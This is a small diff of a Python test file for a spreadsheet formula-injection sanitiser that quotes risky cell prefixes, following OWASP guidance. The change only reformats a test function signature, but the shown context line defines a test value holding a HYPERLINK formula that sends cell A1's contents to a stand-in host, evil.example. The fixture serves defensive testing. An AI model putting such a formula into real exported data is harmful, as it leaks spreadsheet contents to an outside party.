@@ -29,7 +29,9 @@ EVIL = '=HYPERLINK("http://evil.example/?l="&A1,"x")@example.fi'
         (42, 42),
     ],
 )
-def test_formula_starts_get_a_quote_and_nothing_else_changes(value: object, written: object) -> None:
+def test_formula_starts_get_a_quote_and_nothing_else_changes(
+    value: object, written: object
+) -> None:
     """Cells starting with = + - @ tab or CR are prefixed with ' (OWASP); others are kept."""
     assert safe_cell(value) == written
 
